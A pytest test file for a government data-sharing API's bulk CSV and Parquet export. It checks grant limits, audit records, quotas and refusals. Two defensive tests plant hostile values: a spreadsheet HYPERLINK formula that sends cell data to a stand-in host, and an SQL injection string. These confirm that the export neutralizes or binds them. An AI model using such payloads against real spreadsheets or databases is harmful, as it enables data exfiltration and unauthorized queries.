"""Bulk delivery (批量交付) as streamed CSV and Parquet (Art. 22, 26 ¶2, 40, 50(4)(5)).

Written from both sides: the department system that receives the data set (only granted items,
the row condition, key order, safe to open in Excel) and the auditor who finds every call in
the access records, refused or allowed, with the rows that left.
"""

from __future__ import annotations

import csv
import io
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import anyio
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker

from govdata.core.access import AccessRecord
from govdata.core.errors import DomainError
from govdata.sharing import bulk
from govdata.sharing.api.bulk import _stream
from govdata.sharing.models import GrantMode, GrantUsage
from govdata.sharing.sources import data_table
from tests.aggregation.base_helpers import K1, K2, K3
from tests.sharing.helpers import ShareCity, build_share_city, grant_to_yz
from tests.world import World

PURPOSE = "household-check"


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def _records(session: Session, **where: Any) -> list[AccessRecord]:
    stmt = select(AccessRecord).where(AccessRecord.action == "sharing.bulk")
    for name, value in where.items():
        stmt = stmt.where(getattr(AccessRecord, name) == value)
    return list(session.scalars(stmt.order_by(AccessRecord.id)))


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"))))


def _city(session: Session, world: World) -> ShareCity:
    sc = build_share_city(session, world)
    session.commit()
    return sc


def test_csv_holds_only_granted_items_in_key_order(
    client: TestClient, session: Session, world: World
) -> None:
    # Art. 26 ¶2: field-level grant; 出生日期 is not granted and never leaves.
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["姓名", "公民身份号码"])
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = _csv(r.content)
    assert rows[0] == ["公民身份号码", "姓名"]  # the source's order, item names
    assert rows[1:] == [[K1, "张三"], [K2, "李四"], [K3, "王五"]]
    assert "1990-01-01" not in r.text and "出生日期" not in r.text
    # Art. 40: one record, committed, closed with the rows sent.
    session.expire_all()
    (rec,) = _records(session)
    assert (rec.outcome, rec.reason, rec.rows, rec.open_until) == ("allowed", "", 3, None)
    assert (rec.grant_id, rec.purpose, rec.token_id) == (g.id, PURPOSE, sc.token_id)
    assert rec.fields == "公民身份号码,姓名" and rec.object_id == sc.person_source.code
    assert str(rec.id) == r.headers["x-access-record"]


def test_the_row_condition_applies(client: TestClient, session: Session, world: World) -> None:
    # Art. 50(5): rows beyond the grant's data range never leave.
    sc = _city(session, world)
    g = grant_to_yz(
        session,
        world,
        sc,
        sc.person_source,
        ["公民身份号码", "姓名"],
        row_condition={"item": "姓名", "values": ["李四", "王五"]},
    )
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    assert r.status_code == 200
    assert _csv(r.content)[1:] == [[K2, "李四"], [K3, "王五"]]
    assert "张三" not in r.text
    session.expire_all()
    assert _records(session)[0].rows == 2


def test_formula_like_text_is_neutralized(
    client: TestClient, session: Session, world: World
) -> None:
    # Art. 39 防范攻击: a pool value that would run as a formula in Excel is written as text.
    sc = _city(session, world)
    table = data_table(sc.person_source)
    assert table is not None
    name = sc.person_source.item("姓名")
    key = sc.person_source.item("公民身份号码")
    assert name is not None and key is not None
    evil = '=HYPERLINK("http://x/?"&A1,"点此")'
    session.execute(update(table).where(table.c[key.column] == K1).values({name.column: evil}))
    session.execute(update(table).where(table.c[key.column] == K2).values({name.column: "－1＋2"}))
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    rows = _csv(r.content)
    assert rows[1] == [K1, "'" + evil]
    assert rows[2] == [K2, "'－1＋2"]
    assert rows[3] == [K3, "王五"]


def test_parquet_has_the_granted_columns_typed(
    client: TestClient, session: Session, world: World
) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名", "出生日期"])
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.parquet?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    assert r.status_code == 200, r.text
    table = pq.read_table(io.BytesIO(r.content))
    assert table.column_names == ["公民身份号码", "姓名", "出生日期"]
    data = table.to_pylist()
    assert [d["公民身份号码"] for d in data] == [K1, K2, K3]
    assert data[0]["出生日期"].isoformat() == "1990-01-01" and data[2]["出生日期"] is None
    session.expire_all()
    assert _records(session)[0].rows == 3


def test_a_base_database_is_delivered_too(
    client: TestClient, session: Session, world: World
) -> None:
    sc = _city(session, world)
    key_name = sc.base_source.key_name
    assert key_name is not None
    g = grant_to_yz(session, world, sc, sc.base_source, [key_name, "姓名"])
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    assert r.status_code == 200, r.text
    rows = _csv(r.content)
    assert rows[0] == [key_name, "姓名"]
    keys = [row[0] for row in rows[1:]]
    assert keys == sorted(keys) and K1 in keys


@pytest.mark.parametrize(
    ("case", "status", "code"),
    [
        ("purpose", 403, "sharing.purpose_mismatch"),
        ("other_department", 403, "sharing.grant_other_department"),
        ("verification_only", 403, "sharing.verification_only"),
        ("no_grant", 403, "sharing.no_grant"),
    ],
)
def test_refusals_are_recorded_once_and_leak_nothing(
    client: TestClient, session: Session, world: World, case: str, status: int, code: str
) -> None:
    sc = _city(session, world)
    mode = GrantMode.VERIFICATION if case == "verification_only" else GrantMode.DATA
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"], mode=mode)
    session.commit()
    grant_id = g.id + 1000 if case == "no_grant" else g.id
    purpose = "something-else" if case == "purpose" else PURPOSE
    secret = sc.jb_token if case == "other_department" else sc.token
    r = client.get(
        f"/api/v1/sharing/data/{grant_id}/export.csv?purpose={purpose}", headers=bearer(secret)
    )
    assert (r.status_code, r.json()["error"]["code"]) == (status, code)
    assert "张三" not in r.text and K1 not in r.text
    session.expire_all()
    (rec,) = _records(session)
    assert (rec.outcome, rec.reason, rec.rows, rec.grant_id) == ("refused", code, 0, grant_id)
    refused = session.scalar(select(func.count()).where(AccessRecord.action == "request.refused"))
    assert refused == 0  # recorded once, by the gate's caller


def test_a_token_without_the_scope_is_refused(
    client: TestClient, session: Session, world: World
) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}",
        headers=bearer(sc.other_token),
    )
    assert (r.status_code, r.json()["error"]["code"]) == (403, "auth.scope_missing")
    assert "张三" not in r.text


def test_the_quota_counts_one_call_per_delivery(
    client: TestClient, session: Session, world: World
) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"], daily_quota=1)
    session.commit()
    url = f"/api/v1/sharing/data/{g.id}/export.csv?purpose={PURPOSE}"
    assert client.get(url, headers=bearer(sc.token)).status_code == 200
    r = client.get(url, headers=bearer(sc.token))
    assert (r.status_code, r.json()["error"]["code"]) == (429, "sharing.quota_exceeded")
    session.expire_all()
    usage = session.scalars(select(GrantUsage).where(GrantUsage.grant_id == g.id)).one()
    assert usage.calls == 1  # three rows, one call; the refused call is not counted
    assert [(r.outcome, r.reason) for r in _records(session)] == [
        ("allowed", ""),
        ("refused", "sharing.quota_exceeded"),
    ]


def test_a_revoked_grant_delivers_nothing(
    client: TestClient, session: Session, world: World
) -> None:
    from govdata.sharing import grants

    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    grants.revoke(session, world.actor(session, "officer"), g.id, "超出职责范围")
    session.commit()
    r = client.get(
        f"/api/v1/sharing/data/{g.id}/export.parquet?purpose={PURPOSE}", headers=bearer(sc.token)
    )
    assert (r.status_code, r.json()["error"]["code"]) == (403, "sharing.grant_revoked")


def test_the_record_is_committed_before_the_first_byte(
    session: Session, world: World, test_sessionmaker: sessionmaker[Session]
) -> None:
    # Fail closed (Art. 40): the record exists, saying "interrupted", before anything is sent;
    # a client that goes away after the header leaves the rows it was sent.
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    system = _system_actor(session, sc)
    export = bulk.start(session, system, g.id, purpose=PURPOSE, fmt="csv")
    session.commit()
    (rec,) = _records(session)
    assert (rec.reason, rec.rows) == ("sharing.stream_interrupted", 0)
    assert rec.open_until is not None

    async def first_chunk_then_gone() -> bytes:
        body = _stream(test_sessionmaker, export)
        first = await body.__anext__()
        await body.aclose()  # the client vanished
        return first

    # In a thread of its own: a browser test earlier in this worker may hold an event loop
    # running in the main thread (Playwright's sync API), and anyio.run refuses to nest.
    with ThreadPoolExecutor(1) as pool:
        first = pool.submit(anyio.run, first_chunk_then_gone).result()
    assert first.startswith(b"\xef\xbb\xbf")
    session.expire_all()
    (rec,) = _records(session)
    assert (rec.outcome, rec.reason, rec.rows, rec.open_until) == (
        "allowed",
        "sharing.stream_interrupted",
        0,
        None,
    )


def test_rows_are_counted_as_they_leave(
    session: Session, world: World, test_sessionmaker: sessionmaker[Session]
) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    system = _system_actor(session, sc)
    export = bulk.start(session, system, g.id, purpose=PURPOSE, fmt="parquet")
    session.commit()
    chunks = list(bulk.chunks(session, export, batch=1))
    assert [n for _, n in chunks] == [1, 1, 1, 0]  # one row group per batch, then the footer
    assert pq.read_table(io.BytesIO(b"".join(c for c, _ in chunks))).num_rows == 3


def test_csv_rows_are_counted_across_quoted_newlines() -> None:
    counter = bulk._CsvRows()
    assert counter.feed(b'a,"x\ny",b\nc,"') == 1
    assert counter.feed(b'""q\n"\nd\n') == 2


def test_a_refused_start_raises_with_its_record_kept(session: Session, world: World) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    with pytest.raises(DomainError) as exc:
        bulk.start(session, _system_actor(session, sc), g.id, purpose="x", fmt="csv")
    assert exc.value.keep_changes and exc.value.code == "sharing.purpose_mismatch"


def _system_actor(session: Session, sc: ShareCity) -> Any:
    from govdata.org import auth

    actor = auth.resolve_token(session, sc.token)
    assert actor is not None
    return actor


def test_row_condition_values_are_data_not_sql(
    client: TestClient, session: Session, world: World
) -> None:
    # On PostgreSQL the values are bound into COPY's SELECT client-side: a quote stays a quote.
    sc = _city(session, world)
    g = grant_to_yz(
        session,
        world,
        sc,
        sc.person_source,
        ["公民身份号码", "姓名"],
        row_condition={"item": "姓名", "values": ["李四", "x') OR ('1'='1"]},
    )
    session.commit()
    for fmt in ("csv", "parquet"):
        r = client.get(
            f"/api/v1/sharing/data/{g.id}/export.{fmt}?purpose={PURPOSE}",
            headers=bearer(sc.token),
        )
        assert r.status_code == 200, r.text
        if fmt == "csv":
            assert _csv(r.content)[1:] == [[K2, "李四"]]
        else:
            assert pq.read_table(io.BytesIO(r.content)).to_pylist() == [
                {"公民身份号码": K2, "姓名": "李四"}
            ]


def test_progress_and_end_write_only_an_open_unsealed_record(
    session: Session, world: World, test_sessionmaker: sessionmaker[Session]
) -> None:
    sc = _city(session, world)
    g = grant_to_yz(session, world, sc, sc.person_source, ["公民身份号码", "姓名"])
    export = bulk.start(session, _system_actor(session, sc), g.id, purpose=PURPOSE, fmt="csv")
    session.commit()
    bulk.progress(test_sessionmaker, export.record_id, 2)
    session.expire_all()
    (rec,) = _records(session)
    assert (rec.rows, rec.reason) == (2, "sharing.stream_interrupted")  # a server dying now
    bulk.finish(test_sessionmaker, export.record_id, 3, complete=True)
    bulk.finish(test_sessionmaker, export.record_id, 99, complete=False)  # closed: no effect
    session.expire_all()
    (rec,) = _records(session)
    assert (rec.rows, rec.reason, rec.open_until) == (3, "", None)
    # A record the sealer sealed (its time past) is never written again.
    other = bulk.start(session, _system_actor(session, sc), g.id, purpose=PURPOSE, fmt="csv")
    session.execute(update(AccessRecord).where(AccessRecord.id == other.record_id).values(sealed=1))
    session.commit()
    bulk.finish(test_sessionmaker, other.record_id, 3, complete=True)
    session.expire_all()
    sealed = session.get(AccessRecord, other.record_id)
    assert sealed is not None and (sealed.rows, sealed.open_until is None) == (0, False)
